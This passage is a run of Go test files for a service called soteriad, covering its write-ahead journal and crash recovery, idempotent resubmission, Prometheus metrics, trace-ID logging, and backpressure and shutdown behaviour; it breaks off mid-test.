	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatalf("decode single-node status: %v", err)
	}
	if st.Members != 1 {
		t.Fatalf("single-node members = %d, want 1", st.Members)
	}
}

// TestFleetPutAndGetResultLocalOnly: PUT /v1/results writes the LOCAL
// shard even for keys the ring assigns elsewhere, and GET reads only
// the local shard — the store layer's loop guard.
func TestFleetPutAndGetResultLocalOnly(t *testing.T) {
	f := newFleet(t, 2, func(int) Config { return storeConfig(t) })
	// A key owned by node 1, written to node 0.
	var key string
	for i := 0; ; i++ {
		key = fmt.Sprintf("%064x", i)
		if f.clusters[0].Owner(key) == f.urls[1] {
			break
		}
	}
	rec := &report.Record{Schema: report.Schema, Apps: []string{"x"},
		Violations: []report.Violation{}, Checked: []string{}, Diagnostics: []report.Diagnostic{}}
	data, err := report.Encode(rec)
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	req, _ := http.NewRequest(http.MethodPut, f.urls[0]+"/v1/results/"+key, bytes.NewReader(data))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("put: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNoContent {
		t.Fatalf("put status %d", resp.StatusCode)
	}
	if _, ok := f.servers[0].cfg.Store.Get(key); !ok {
		t.Fatal("PUT did not land in the local shard")
	}
	if _, ok := f.servers[1].cfg.Store.Get(key); ok {
		t.Fatal("PUT was routed to the ring owner")
	}
	// GET on the owner (which has no copy) is a 404, not a route.
	resp, err = http.Get(f.urls[1] + "/v1/results/" + key)
	if err != nil {
		t.Fatalf("get: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("owner GET status %d, want 404", resp.StatusCode)
	}
}
