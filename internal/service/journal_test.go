package service

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/fsio"
	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/store"
)

// journalPath returns a journal location inside a fresh temp dir.
func journalPath(t *testing.T) string {
	t.Helper()
	return filepath.Join(t.TempDir(), "journal.wal")
}

// drainCtx is the shutdown deadline tests hand to Shutdown.
func drainCtx() (context.Context, context.CancelFunc) {
	return context.WithTimeout(context.Background(), 10*time.Second)
}

// smokeJob builds a runnable single-item job around the smoke-alarm
// paper app, the same source the end-to-end tests analyze.
func smokeJob(id string) *job {
	return &job{
		id: id,
		items: []core.BatchItem{{
			Sources: []core.NamedSource{{Name: "smoke-alarm", Source: paperapps.SmokeAlarm}},
		}},
		opts:   core.DefaultOptions(),
		async:  true,
		status: statusQueued,
		done:   make(chan struct{}),
	}
}

// TestJournalRoundTrip appends events through the durable path and
// replays them from a fresh open: order, payloads, and options must
// survive the encode/decode cycle.
func TestJournalRoundTrip(t *testing.T) {
	path := journalPath(t)
	j, events, err := openJournal(path, nil)
	if err != nil {
		t.Fatalf("openJournal: %v", err)
	}
	if len(events) != 0 {
		t.Fatalf("fresh journal replayed %d events", len(events))
	}
	src := smokeJob("0123456789abcdef")
	src.idemKey = "client-key-1"
	if err := j.append(acceptedEvent(src)); err != nil {
		t.Fatalf("append accepted: %v", err)
	}
	done := terminalEvent(src, statusDone, []itemResult{{StoreKey: "aa", Cached: false}}, 42*time.Millisecond)
	if err := j.append(done); err != nil {
		t.Fatalf("append done: %v", err)
	}
	if err := j.close(); err != nil {
		t.Fatalf("close: %v", err)
	}

	j2, events, err := openJournal(path, nil)
	if err != nil {
		t.Fatalf("reopen: %v", err)
	}
	defer j2.close()
	if len(events) != 2 {
		t.Fatalf("replayed %d events, want 2", len(events))
	}
	acc := events[0]
	if acc.Op != opAccepted || acc.Job != src.id || acc.Idem != "client-key-1" {
		t.Fatalf("accepted entry: %+v", acc)
	}
	if len(acc.Items) != 1 || acc.Items[0].Apps[0].Source != paperapps.SmokeAlarm {
		t.Fatalf("accepted entry lost its sources")
	}
	if got := acc.Opts.core(); got.General != src.opts.General || got.AppSpecific != src.opts.AppSpecific {
		t.Fatalf("options round trip: %+v", got)
	}
	if events[1].Op != opDone || events[1].ElapsedMS != 42 || events[1].Results[0].StoreKey != "aa" {
		t.Fatalf("terminal entry: %+v", events[1])
	}
}

// TestJournalTruncatedTail is the torn-write rule: a crash mid-append
// leaves a partial last line, and reopening must replay the valid
// prefix, report the cut, and physically truncate the file so the next
// append starts from a sound base.
func TestJournalTruncatedTail(t *testing.T) {
	path := journalPath(t)
	j, _, err := openJournal(path, nil)
	if err != nil {
		t.Fatalf("openJournal: %v", err)
	}
	if err := j.append(journalEvent{Op: opAccepted, Job: "aaaa"}); err != nil {
		t.Fatalf("append: %v", err)
	}
	if err := j.append(journalEvent{Op: opDone, Job: "aaaa"}); err != nil {
		t.Fatalf("append: %v", err)
	}
	j.close()

	sound, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read journal: %v", err)
	}
	// Simulate the torn append: half of a third entry, no newline.
	line, _ := encodeEntry(journalEvent{Op: opAccepted, Job: "bbbb"})
	torn := append(append([]byte{}, sound...), line[:len(line)/2]...)
	if err := os.WriteFile(path, torn, 0o644); err != nil {
		t.Fatalf("write torn journal: %v", err)
	}

	j2, events, err := openJournal(path, nil)
	if err != nil {
		t.Fatalf("reopen torn journal: %v", err)
	}
	defer j2.close()
	if len(events) != 2 || events[1].Op != opDone {
		t.Fatalf("torn replay returned %d events: %+v", len(events), events)
	}
	if got := j2.replay.TruncatedBytes; got != len(line)/2 {
		t.Fatalf("TruncatedBytes = %d, want %d", got, len(line)/2)
	}
	after, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read truncated journal: %v", err)
	}
	if string(after) != string(sound) {
		t.Fatalf("file not truncated back to valid prefix: %d bytes vs %d", len(after), len(sound))
	}
}

// TestJournalTornTailVariants drives parseJournal over the corruption
// taxonomy: flipped checksum, non-JSON payload, malformed header, and
// missing trailing newline must each stop replay at the last good entry.
func TestJournalTornTailVariants(t *testing.T) {
	good, _ := encodeEntry(journalEvent{Op: opAccepted, Job: "aaaa"})
	bad, _ := encodeEntry(journalEvent{Op: opDone, Job: "aaaa"})
	flipped := append([]byte{}, bad...)
	flipped[len(flipped)-2] ^= 0x01 // corrupt payload byte → checksum mismatch
	cases := []struct {
		name string
		tail []byte
	}{
		{"checksum-mismatch", flipped},
		{"not-json", []byte("deadbeef not json at all\n")},
		{"short-header", []byte("ab\n")},
		{"no-newline", bad[:len(bad)-1]},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			data := append(append([]byte{}, good...), tc.tail...)
			events, valid := parseJournal(data)
			if len(events) != 1 || events[0].Job != "aaaa" {
				t.Fatalf("replayed %d events: %+v", len(events), events)
			}
			if valid != len(good) {
				t.Fatalf("valid offset = %d, want %d", valid, len(good))
			}
		})
	}
}

// TestReplayDuplicateIdemKey covers the crash-window resubmission: two
// accepted entries sharing an idempotency key must collapse to one
// runnable job, with the duplicate counted, so the same content is not
// analyzed twice after restart.
func TestReplayDuplicateIdemKey(t *testing.T) {
	a, b := smokeJob("1111111111111111"), smokeJob("2222222222222222")
	a.idemKey, b.idemKey = "retry-key", "retry-key"
	out := replayEvents([]journalEvent{acceptedEvent(a), acceptedEvent(b)}, nil)
	if len(out.jobs) != 1 || out.jobs[0].id != a.id {
		t.Fatalf("jobs after dup-key replay: %d", len(out.jobs))
	}
	if out.dupKeys != 1 {
		t.Fatalf("dupKeys = %d, want 1", out.dupKeys)
	}
	if out.idem["retry-key"] != out.jobs[0] {
		t.Fatalf("idempotency index does not point at the surviving job")
	}
	if len(out.requeue) != 1 {
		t.Fatalf("requeue = %d jobs, want 1", len(out.requeue))
	}
}

// TestReplayDoneAfterCrash covers the ordering where a terminal entry
// survives (e.g. compaction) without its accepted entry: replay must
// surface the terminal job for /v1/jobs without trying to re-run it.
func TestReplayDoneAfterCrash(t *testing.T) {
	out := replayEvents([]journalEvent{{
		Op: opDone, Job: "3333333333333333", Idem: "orphan-key",
		Results: []journalResult{{StoreKey: "cc", Cached: true}}, ElapsedMS: 7,
	}}, nil)
	if len(out.jobs) != 1 {
		t.Fatalf("jobs = %d, want 1", len(out.jobs))
	}
	j := out.jobs[0]
	if j.status != statusDone || len(j.results) != 1 || j.results[0].StoreKey != "cc" {
		t.Fatalf("done-after-crash job: status=%s results=%+v", j.status, j.results)
	}
	select {
	case <-j.done:
	default:
		t.Fatalf("done channel not closed on terminal replay")
	}
	if len(out.requeue) != 0 {
		t.Fatalf("terminal-only job was requeued")
	}
	if out.idem["orphan-key"] != j {
		t.Fatalf("idempotency key of terminal job not indexed")
	}
}

// TestReplayRejectedWithdrawal: an accepted entry followed by its
// rejected pair (queue-full after journaling) must vanish — no requeue,
// no idempotency claim — so the client's post-429 retry runs fresh.
func TestReplayRejectedWithdrawal(t *testing.T) {
	j := smokeJob("4444444444444444")
	j.idemKey = "burst-key"
	out := replayEvents([]journalEvent{
		acceptedEvent(j),
		{Op: opRejected, Job: j.id, Idem: j.idemKey},
	}, nil)
	if len(out.jobs) != 0 || len(out.requeue) != 0 {
		t.Fatalf("rejected job survived replay: jobs=%d requeue=%d", len(out.jobs), len(out.requeue))
	}
	if _, ok := out.idem["burst-key"]; ok {
		t.Fatalf("rejected job still holds its idempotency key")
	}
}

// TestReplayDuplicateTerminal: a repeated terminal entry (possible when
// a crash lands between append and compaction on a later restart) must
// not double-close the done channel or overwrite results.
func TestReplayDuplicateTerminal(t *testing.T) {
	j := smokeJob("5555555555555555")
	evs := []journalEvent{
		acceptedEvent(j),
		{Op: opDone, Job: j.id, Results: []journalResult{{StoreKey: "dd"}}},
		{Op: opFailed, Job: j.id, Results: []journalResult{{Err: "late duplicate"}}},
	}
	out := replayEvents(evs, nil) // must not panic on double close
	if len(out.jobs) != 1 || out.jobs[0].status != statusDone {
		t.Fatalf("duplicate terminal replay: %+v", out.jobs)
	}
	if out.jobs[0].results[0].StoreKey != "dd" {
		t.Fatalf("first terminal entry overwritten: %+v", out.jobs[0].results)
	}
}

// TestRestartResume is the service-level crash-recovery contract: a job
// journaled as accepted but never finished (the previous process died)
// must re-enqueue under its original ID on the next New and run to a
// terminal state, with its result rehydrated into /v1/jobs.
func TestRestartResume(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "journal.wal")
	st, err := store.Open(filepath.Join(dir, "store"), store.Options{})
	if err != nil {
		t.Fatalf("store: %v", err)
	}

	// "Crash": journal an accepted job by hand — exactly the bytes a
	// SIGKILLed soteriad leaves behind — with no terminal entry.
	j, _, err := openJournal(path, nil)
	if err != nil {
		t.Fatalf("openJournal: %v", err)
	}
	lost := smokeJob("feedfacefeedface")
	lost.idemKey = "resume-key"
	if err := j.append(acceptedEvent(lost)); err != nil {
		t.Fatalf("append: %v", err)
	}
	j.close()

	s, ts := newTestServer(t, Config{Workers: 2, Store: st, JournalPath: path})
	if got := s.jobsReenqueued.Load(); got != 1 {
		t.Fatalf("jobsReenqueued = %d, want 1", got)
	}

	// The replayed job keeps its ID and reaches a terminal state.
	deadline := time.Now().Add(30 * time.Second)
	var body map[string]any
	for {
		var resp *http.Response
		resp, body = getJSON(t, ts.URL+"/v1/jobs/"+lost.id)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("poll: %d (%v)", resp.StatusCode, body)
		}
		if st := body["status"]; st == "done" || st == "failed" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("replayed job never finished: %v", body)
		}
		time.Sleep(20 * time.Millisecond)
	}
	if body["status"] != "done" {
		t.Fatalf("replayed job status: %v", body)
	}
	if body["result"] == nil {
		t.Fatalf("replayed job has no result: %v", body)
	}

	// A resubmission carrying the crash-era idempotency key is answered
	// by the replayed job — same ID, no second analysis.
	resp, dup := postJSON(t, ts.URL+"/v1/analyze", map[string]any{
		"name": "smoke-alarm", "source": paperapps.SmokeAlarm,
		"idempotency_key": "resume-key",
	})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("resubmission: %d (%v)", resp.StatusCode, dup)
	}
	if dup["job_id"] != lost.id {
		t.Fatalf("resubmission ran as new job %v, want %s", dup["job_id"], lost.id)
	}
	if got := s.idemHits.Load(); got != 1 {
		t.Fatalf("idemHits = %d, want 1", got)
	}

	// The journal now holds the completed job; the *next* restart
	// replays it as terminal history and re-enqueues nothing.
	ctx, cancel := drainCtx()
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatalf("shutdown: %v", err)
	}
	s2, err := New(Config{Workers: 1, Store: st, JournalPath: path})
	if err != nil {
		t.Fatalf("second restart: %v", err)
	}
	defer func() {
		ctx, cancel := drainCtx()
		defer cancel()
		s2.Shutdown(ctx)
	}()
	if got := s2.jobsReenqueued.Load(); got != 0 {
		t.Fatalf("second restart re-enqueued %d jobs, want 0", got)
	}
	done, ok := s2.lookupJob(lost.id)
	if !ok {
		t.Fatalf("completed job missing from second restart's table")
	}
	if status, results, _ := done.snapshot(); status != statusDone || len(results) != 1 || results[0].Record == nil {
		t.Fatalf("second restart lost the result: %s %+v", status, results)
	}
}

// TestIdempotentResubmissionLive: two identical submissions with one
// key on a live server run once; the second answers with the first
// job's ID and result.
func TestIdempotentResubmissionLive(t *testing.T) {
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatalf("store: %v", err)
	}
	s, ts := newTestServer(t, Config{Workers: 2, Store: st, JournalPath: journalPath(t)})

	req := map[string]any{"name": "smoke-alarm", "source": paperapps.SmokeAlarm, "idempotency_key": "once"}
	resp1, body1 := postJSON(t, ts.URL+"/v1/analyze", req)
	if resp1.StatusCode != http.StatusOK {
		t.Fatalf("first POST: %d (%v)", resp1.StatusCode, body1)
	}
	faultinject.BeginCount()
	resp2, body2 := postJSON(t, ts.URL+"/v1/analyze", req)
	counts := faultinject.TakeCounts()
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("second POST: %d (%v)", resp2.StatusCode, body2)
	}
	if body2["job_id"] != body1["job_id"] {
		t.Fatalf("idempotent retry got new job: %v vs %v", body2["job_id"], body1["job_id"])
	}
	if counts[faultinject.SiteAnalyze] != 0 {
		t.Fatalf("idempotent retry dispatched %d analyses", counts[faultinject.SiteAnalyze])
	}
	if got := s.idemHits.Load(); got != 1 {
		t.Fatalf("idemHits = %d, want 1", got)
	}

	// The Idempotency-Key header is an equivalent spelling.
	data, err := json.Marshal(map[string]any{"name": "smoke-alarm", "source": paperapps.SmokeAlarm})
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	hreq, _ := http.NewRequest("POST", ts.URL+"/v1/analyze", bytes.NewReader(data))
	hreq.Header.Set("Content-Type", "application/json")
	hreq.Header.Set("Idempotency-Key", "once")
	hresp, err := http.DefaultClient.Do(hreq)
	if err != nil {
		t.Fatalf("header POST: %v", err)
	}
	defer hresp.Body.Close()
	if hresp.StatusCode != http.StatusOK {
		t.Fatalf("header POST: %d", hresp.StatusCode)
	}
	if got := s.idemHits.Load(); got != 2 {
		t.Fatalf("idemHits after header retry = %d, want 2", got)
	}
}

// TestJournalAppendFailureRejects: when the accepted entry cannot be
// made durable, the submission must fail with a retryable 503 and
// release its idempotency claim — never an acknowledged job that a
// crash would silently lose.
func TestJournalAppendFailureRejects(t *testing.T) {
	path := journalPath(t)
	_, ts := newTestServer(t, Config{
		Workers:     1,
		JournalPath: path,
		FS:          fsio.Faulty{Inner: fsio.OS{}},
	})

	faultinject.ArmError(faultinject.SiteFSSync, filepath.Base(path), fmt.Errorf("disk full"))
	defer faultinject.Disarm(faultinject.SiteFSSync)
	req := map[string]any{
		"name": "smoke-alarm", "source": paperapps.SmokeAlarm,
		"idempotency_key": "durable-or-bust", "async": true,
	}
	resp, body := postJSON(t, ts.URL+"/v1/analyze", req)
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("journal-failure POST: %d (%v)", resp.StatusCode, body)
	}

	// With the fault cleared, the same key must be free to run.
	faultinject.Disarm(faultinject.SiteFSSync)
	resp2, body2 := postJSON(t, ts.URL+"/v1/analyze", req)
	if resp2.StatusCode != http.StatusAccepted {
		t.Fatalf("retry after journal failure: %d (%v)", resp2.StatusCode, body2)
	}
}

// TestJournalCompactionBounds: restarting over a journal of finished
// jobs must shrink it to slim history (no sources), not replay it
// verbatim forever.
func TestJournalCompactionBounds(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "journal.wal")
	st, err := store.Open(filepath.Join(dir, "store"), store.Options{})
	if err != nil {
		t.Fatalf("store: %v", err)
	}
	s, ts := newTestServer(t, Config{Workers: 1, Store: st, JournalPath: path})
	resp, _ := postJSON(t, ts.URL+"/v1/analyze", map[string]any{"name": "smoke-alarm", "source": paperapps.SmokeAlarm})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST: %d", resp.StatusCode)
	}
	ctx, cancel := drainCtx()
	defer cancel()
	s.Shutdown(ctx)
	grown, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read journal: %v", err)
	}

	s2, err := New(Config{Workers: 1, Store: st, JournalPath: path})
	if err != nil {
		t.Fatalf("restart: %v", err)
	}
	defer func() {
		ctx, cancel := drainCtx()
		defer cancel()
		s2.Shutdown(ctx)
	}()
	compacted, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read compacted journal: %v", err)
	}
	if len(compacted) >= len(grown) {
		t.Fatalf("compaction did not shrink journal: %d → %d bytes", len(grown), len(compacted))
	}
	events, valid := parseJournal(compacted)
	if valid != len(compacted) {
		t.Fatalf("compacted journal has torn bytes")
	}
	for _, ev := range events {
		if len(ev.Items) != 0 {
			t.Fatalf("compacted history still carries sources: %+v", ev)
		}
	}
}
