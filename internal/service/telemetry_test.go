package service

import (
	"bytes"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"sync"

	"github.com/soteria-analysis/soteria/internal/obs"
	"github.com/soteria-analysis/soteria/internal/paperapps"
)

// syncWriter serializes log writes from the worker and HTTP goroutines.
type syncWriter struct {
	mu sync.Mutex
	w  io.Writer
}

func (s *syncWriter) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.w.Write(p)
}

// TestMetricsExposition is the exposition-format acceptance test:
// after at least one job, GET /metrics must be valid Prometheus text
// format (one HELP/TYPE pair per family, no duplicate samples,
// cumulative histogram buckets ending at +Inf) and must expose the
// latency histograms, BDD-kernel stats, and memo hit rates.
func TestMetricsExposition(t *testing.T) {
	_, ts := newTestServer(t, Config{Workers: 2})

	resp, body := postJSON(t, ts.URL+"/v1/analyze", map[string]any{
		"name": "smoke-alarm", "source": paperapps.SmokeAlarm,
	})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("analyze: %d (%v)", resp.StatusCode, body)
	}

	mresp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatalf("GET /metrics: %v", err)
	}
	defer mresp.Body.Close()
	if mresp.StatusCode != http.StatusOK {
		t.Fatalf("GET /metrics: %d", mresp.StatusCode)
	}
	data, err := io.ReadAll(mresp.Body)
	if err != nil {
		t.Fatalf("reading /metrics: %v", err)
	}

	if err := obs.ValidateExposition(data); err != nil {
		t.Fatalf("exposition format: %v\n%s", err, data)
	}

	text := string(data)
	for _, want := range []string{
		// Renamed counters (the pre-existing names lacked _total).
		"soteriad_jobs_replayed_total",
		"soteriad_jobs_reenqueued_total",
		"soteriad_journal_dup_keys_total",
		// Latency histograms.
		"soteriad_job_seconds_bucket",
		`soteriad_queue_wait_seconds_bucket`,
		`soteriad_phase_seconds_bucket{phase="statemodel",`,
		`soteriad_phase_seconds_bucket{phase="check",`,
		`soteriad_engine_check_seconds_bucket{engine="explicit",`,
		`soteriad_engine_check_seconds_bucket{engine="bdd",`,
		// BDD kernel and memo stats.
		"soteriad_bdd_nodes_total",
		"soteriad_bdd_ite_lookups_total",
		"soteriad_bdd_op_lookups_total",
		"soteriad_memo_lookups_total",
		"soteriad_memo_hits_total",
		"soteriad_slow_jobs_total",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	// The old, unsuffixed counter names must be gone (as families: the
	// _total forms contain them as prefixes, so check the sample lines).
	for _, stale := range []string{
		"\nsoteriad_jobs_replayed ",
		"\nsoteriad_jobs_reenqueued ",
		"\nsoteriad_journal_dup_keys ",
	} {
		if strings.Contains(text, stale) {
			t.Errorf("/metrics still exposes stale name %q", strings.TrimSpace(stale))
		}
	}

	// The completed job must have been observed end to end.
	count := sampleValue(t, text, "soteriad_job_seconds_count")
	if count < 1 {
		t.Fatalf("soteriad_job_seconds_count = %v, want >= 1", count)
	}
	// The sweep ran: the explicit engine's memo saw lookups.
	if v := sampleValue(t, text, "soteriad_memo_lookups_total"); v < 1 {
		t.Fatalf("soteriad_memo_lookups_total = %v, want >= 1", v)
	}
}

// sampleValue extracts an unlabeled sample's value from exposition
// text.
func sampleValue(t *testing.T, text, name string) float64 {
	t.Helper()
	for _, line := range strings.Split(text, "\n") {
		if strings.HasPrefix(line, name+" ") {
			v, err := strconv.ParseFloat(strings.TrimPrefix(line, name+" "), 64)
			if err != nil {
				t.Fatalf("parsing %q: %v", line, err)
			}
			return v
		}
	}
	t.Fatalf("no sample %q in exposition", name)
	return 0
}

// TestMetricsRejectsNonGET: /metrics is read-only; POST must be 405.
func TestMetricsRejectsNonGET(t *testing.T) {
	_, ts := newTestServer(t, Config{Workers: 1})
	resp, err := http.Post(ts.URL+"/metrics", "text/plain", strings.NewReader(""))
	if err != nil {
		t.Fatalf("POST /metrics: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("POST /metrics: %d, want 405", resp.StatusCode)
	}
}

// TestTimingsEmbeddedInRecord is the timing acceptance test: a job
// submitted with `timings` returns a record carrying a span tree whose
// root is the job span, whose duration agrees with the job's reported
// wall time within 5%, and whose trace ID matches the X-Soteria-Trace
// response header. The stored record itself must stay timing-free.
func TestTimingsEmbeddedInRecord(t *testing.T) {
	_, ts := newTestServer(t, Config{Workers: 1})

	req := map[string]any{"name": "smoke-alarm", "source": paperapps.SmokeAlarm, "timings": true}
	resp, body := postJSON(t, ts.URL+"/v1/analyze", req)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("analyze: %d (%v)", resp.StatusCode, body)
	}
	trace := resp.Header.Get(TraceHeader)
	if !obs.ValidTraceID(trace) {
		t.Fatalf("response trace header %q is not a valid trace ID", trace)
	}

	result, _ := body["result"].(map[string]any)
	if result == nil {
		t.Fatalf("no result: %v", body)
	}
	timing, _ := result["timing"].(map[string]any)
	if timing == nil {
		t.Fatalf("timings requested but record has no timing: %v", result)
	}
	if timing["trace_id"] != trace {
		t.Fatalf("timing trace_id %v != header trace %q", timing["trace_id"], trace)
	}
	span, _ := timing["span"].(map[string]any)
	if span == nil || span["name"] != "job" {
		t.Fatalf("timing root span missing or misnamed: %v", timing)
	}
	rootUS, _ := span["duration_us"].(float64)
	elapsedMS, _ := body["elapsed_ms"].(float64)
	// elapsed_ms is the root span's duration truncated to milliseconds,
	// so the two agree within 5% plus one unit of rounding.
	if diff := rootUS - elapsedMS*1000; diff < 0 || diff > rootUS*0.05+1000 {
		t.Fatalf("root span %vus vs elapsed %vms: outside 5%%", rootUS, elapsedMS)
	}
	kids, _ := span["children"].([]any)
	if len(kids) == 0 {
		t.Fatalf("root span has no phase children: %v", span)
	}

	// The same submission without timings — served from cache — must
	// return the identical stored record with no timing envelope.
	resp2, body2 := postJSON(t, ts.URL+"/v1/analyze", map[string]any{
		"name": "smoke-alarm", "source": paperapps.SmokeAlarm,
	})
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("second analyze: %d", resp2.StatusCode)
	}
	result2, _ := body2["result"].(map[string]any)
	if result2 == nil {
		t.Fatalf("no result on cached response: %v", body2)
	}
	if _, has := result2["timing"]; has {
		t.Fatalf("timing leaked into a response that did not ask for it: %v", result2)
	}
	delete(result, "timing")
	if fmt.Sprint(result) != fmt.Sprint(result2) {
		t.Fatalf("record bytes changed by timings flag:\n%v\n---\n%v", result, result2)
	}
}

// TestTraceInLogLines: every log line about a job carries its trace
// ID, and a client-supplied X-Soteria-Trace is adopted verbatim.
func TestTraceInLogLines(t *testing.T) {
	var buf bytes.Buffer
	logger := slog.New(slog.NewTextHandler(&syncWriter{w: &buf}, nil))
	_, ts := newTestServer(t, Config{Workers: 1, Logger: logger})

	const trace = "client-trace-abc123"
	req, err := http.NewRequest(http.MethodPost, ts.URL+"/v1/analyze",
		strings.NewReader(`{"name":"x","source":"definition(name: \"x\")"}`))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set(TraceHeader, trace)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("POST: %v", err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if got := resp.Header.Get(TraceHeader); got != trace {
		t.Fatalf("server did not adopt client trace: got %q, want %q", got, trace)
	}

	logs := buf.String()
	finished := 0
	for _, line := range strings.Split(logs, "\n") {
		if strings.Contains(line, "job finished") {
			finished++
			if !strings.Contains(line, "trace="+trace) {
				t.Errorf("job-finished line lacks trace: %s", line)
			}
		}
	}
	if finished == 0 {
		t.Fatalf("no job-finished log line:\n%s", logs)
	}
	if !strings.Contains(logs, "http request") || !strings.Contains(logs, "trace="+trace) {
		t.Errorf("http request line lacks trace:\n%s", logs)
	}

	// A garbage header must be replaced with a freshly minted ID, never
	// echoed back.
	req2, _ := http.NewRequest(http.MethodPost, ts.URL+"/v1/analyze",
		strings.NewReader(`{"name":"x","source":"definition(name: \"x\")"}`))
	req2.Header.Set(TraceHeader, "bad id with spaces")
	req2.Header.Set("Content-Type", "application/json")
	resp2, err := http.DefaultClient.Do(req2)
	if err != nil {
		t.Fatalf("POST: %v", err)
	}
	io.Copy(io.Discard, resp2.Body)
	resp2.Body.Close()
	if got := resp2.Header.Get(TraceHeader); !obs.ValidTraceID(got) || got == trace {
		t.Fatalf("invalid client trace not replaced: got %q", got)
	}
}
