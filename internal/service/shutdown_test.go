package service

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/paperapps"
)

// holdWorkers installs the job-running test hook so every job blocks
// until release is closed. Its cleanup unblocks any still-held workers
// (so a failing test can't wedge a later Shutdown) and restores the
// hook; call it AFTER registering the server's shutdown cleanup so the
// unblock runs first. Returns a channel reporting each job that
// reaches the running state.
func holdWorkers(t *testing.T, release <-chan struct{}) chan *job {
	t.Helper()
	running := make(chan *job, 16)
	abort := make(chan struct{})
	hook := func(j *job) {
		running <- j
		select {
		case <-release:
		case <-abort:
		}
	}
	testHookJobRunning.Store(&hook)
	t.Cleanup(func() {
		close(abort)
		testHookJobRunning.Store(nil)
	})
	return running
}

func postAsync(t *testing.T, url string) (*http.Response, map[string]any) {
	t.Helper()
	body, _ := json.Marshal(map[string]any{
		"name": "smoke", "source": paperapps.SmokeAlarm, "async": true,
	})
	resp, err := http.Post(url+"/v1/analyze", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatalf("POST: %v", err)
	}
	defer resp.Body.Close()
	var decoded map[string]any
	json.NewDecoder(resp.Body).Decode(&decoded)
	return resp, decoded
}

// TestBackpressure fills the single worker and the one-deep queue,
// then asserts the next submission is rejected with 429 + Retry-After
// instead of blocking or erroring.
func TestBackpressure(t *testing.T) {
	s, err := New(Config{Workers: 1, QueueDepth: 1, RetryAfter: 3 * time.Second})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		s.Shutdown(ctx)
	})
	release := make(chan struct{})
	running := holdWorkers(t, release)

	// Job A occupies the worker; the sources differ per request key
	// only through options, so identical bodies still re-queue because
	// there is no store configured.
	respA, bodyA := postAsync(t, ts.URL)
	if respA.StatusCode != http.StatusAccepted {
		t.Fatalf("job A: %d", respA.StatusCode)
	}
	select {
	case <-running:
	case <-time.After(10 * time.Second):
		t.Fatal("job A never started running")
	}

	// Job B fills the queue.
	if respB, _ := postAsync(t, ts.URL); respB.StatusCode != http.StatusAccepted {
		t.Fatalf("job B: %d", respB.StatusCode)
	}

	// Job C must bounce with the configured backoff hint.
	respC, bodyC := postAsync(t, ts.URL)
	if respC.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("job C: %d (%v), want 429", respC.StatusCode, bodyC)
	}
	if ra := respC.Header.Get("Retry-After"); ra != "3" {
		t.Fatalf("Retry-After = %q, want \"3\"", ra)
	}
	if got := s.jobsRejected.Load(); got != 1 {
		t.Fatalf("jobsRejected = %d, want 1", got)
	}

	// Releasing the worker drains A and B to completion.
	close(release)
	idA, _ := bodyA["job_id"].(string)
	waitJobStatus(t, ts.URL, idA, "done")
}

// TestShutdownDrainsInFlight is the graceful-drain acceptance test:
// with a worker mid-job and another job queued, Shutdown must reject
// new work (503 on submit and healthz), let both jobs finish, and only
// then return.
func TestShutdownDrainsInFlight(t *testing.T) {
	release := make(chan struct{})
	running := holdWorkers(t, release)

	s, err := New(Config{Workers: 1, QueueDepth: 4})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	_, bodyA := postAsync(t, ts.URL)
	select {
	case <-running:
	case <-time.After(10 * time.Second):
		t.Fatal("job A never started running")
	}
	_, bodyB := postAsync(t, ts.URL) // queued behind A

